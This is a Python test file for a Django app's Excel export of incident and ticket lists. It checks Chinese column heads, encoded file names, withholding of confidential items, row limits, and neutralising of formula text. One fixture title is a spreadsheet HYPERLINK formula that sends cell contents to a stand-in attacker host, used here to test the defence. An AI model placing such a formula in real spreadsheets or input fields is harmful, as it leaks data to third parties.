"""Export of a list to .xlsx (issue 18): the 舆情 and 转办单 lists with the filters in force, Chinese column heads, a
Chinese file name (RFC 5987), formula text written as text (issue 11 §4, the ledger's rule: core.export), only what
the reader may see, and a bound with a message instead of an export that runs for minutes."""

import datetime as dt
import io
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from core import export
from core.export import Column, content_disposition, xlsx_response
from incidents import services
from incidents.models import TicketRole

from .factories import Role, person

SH = ZoneInfo("Asia/Shanghai")


def as_user(user):
    client = Client()
    client.force_login(user)
    return client


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == export.XLSX_TYPE
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def table(book):
    sheet = book.active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def listed(org, make_incident):
    with time_machine.travel(dt.datetime(2026, 10, 12, 9, tzinfo=SH), tick=False):
        hostile = make_incident('=HYPERLINK("http://evil.example/?d="&A1,"点击")', grade="IV")
        school = make_incident("网传某校食堂饭菜变质", grade="III", subject_unit=org.town)
        services.dispatch_incident(
            org.duty, school, assignments=[(org.edu, TicketRole.LEAD), (org.health, TicketRole.ASSIST)]
        )
    with time_machine.travel(dt.datetime(2026, 10, 20, 9, tzinfo=SH), tick=False):
        make_incident("十月二十日事项", grade="IV")
    return hostile, school


def test_incident_list_export_with_the_filters_and_chinese_heads(org, listed):
    hostile, school = listed
    response = as_user(org.duty).get("/incidents/", {"until": "2026-10-12", "export": "xlsx"})
    assert response["Content-Disposition"].startswith("attachment; filename=\"export.xlsx\"; filename*=UTF-8''")
    assert quote("舆情列表-") in response["Content-Disposition"]
    rows = table(workbook(response))
    assert rows[0][:7] == ["舆情编号", "标题", "等级", "状态", "类别", "属地/涉事单位", "责任单位"]
    assert sorted(r[1] for r in rows[1:]) == sorted([hostile.title, school.title])  # not the 10-20 item
    by_title = {r[1]: r for r in rows[1:]}
    assert by_title[school.title][0] == school.number
    assert by_title[school.title][5:7] == ["城关镇", "教育局（主办）、卫健委（协办）"]
    assert by_title[school.title][7] == dt.datetime(2026, 10, 12, 9, 0)  # local time, a real date-time cell


def test_formula_text_is_exported_as_text(org, listed):
    hostile, _ = listed
    book = workbook(as_user(org.duty).get("/incidents/", {"export": "xlsx"}))
    cell = next(row[1] for row in book.active.iter_rows(min_row=2) if row[1].value == hostile.title)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_ticket_list_export_is_the_liaisons_own_tickets(org, listed):
    response = as_user(org.edu_liaison).get("/tickets/", {"export": "xlsx"})
    assert quote("转办单列表-") in response["Content-Disposition"]
    rows = table(workbook(response))
    assert rows[0][:6] == ["舆情编号", "舆情标题", "等级", "责任单位", "承办类型", "状态"]
    assert [(r[1], r[3], r[4]) for r in rows[1:]] == [("网传某校食堂饭菜变质", "教育局", "主办")]
    assert rows[1][10] == "认领时限"


def test_a_confidential_item_is_not_exported_to_someone_not_cleared(org, make_incident):
    make_incident("网传某领导敏感事项", is_confidential=True)
    other = person("duty2", org.office, Role.DUTY_OFFICER)
    rows = table(workbook(as_user(other).get("/incidents/", {"export": "xlsx"})))
    assert rows[1:] == []
    rows = table(workbook(as_user(org.duty).get("/incidents/", {"export": "xlsx"})))
    assert [r[1] for r in rows[1:]] == ["网传某领导敏感事项"]


def test_more_than_the_bound_is_refused_with_a_message(org, listed, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    response = as_user(org.duty).get("/incidents/", {"grade": "IV", "export": "xlsx"})
    assert response.status_code == 200  # two IV items: within the bound
    response = as_user(org.duty).get("/incidents/", {"export": "xlsx"}, follow=True)
    assert response.redirect_chain and response["Content-Type"].startswith("text/html")
    assert any("导出最多" in str(m) for m in response.context["messages"])


def test_an_export_with_a_bad_filter_shows_the_list_and_the_message_instead(org, listed):
    response = as_user(org.duty).get("/incidents/", {"grade": "V", "export": "xlsx"})
    assert response.status_code == 400 and "筛选条件「等级」有误" in response.content.decode()


def test_the_helper_serves_any_list(tmp_path):
    response = xlsx_response(
        [["一", 1, None, True], ["@SUM(1)", 2, dt.date(2026, 1, 2), False]],
        [
            Column("名称"),
            Column("数量"),
            Column("日期"),
            Column("是否"),
        ],
        "测试 列表.xlsx",
    )
    assert response["Content-Disposition"].endswith("filename*=UTF-8''%E6%B5%8B%E8%AF%95%20%E5%88%97%E8%A1%A8.xlsx")
    rows = table(workbook(response))
    assert rows == [
        ["名称", "数量", "日期", "是否"],
        ["一", 1, None, "是"],
        ["@SUM(1)", 2, dt.datetime(2026, 1, 2), "否"],
    ]
    assert content_disposition("a.xlsx").startswith('attachment; filename="export.xlsx"')
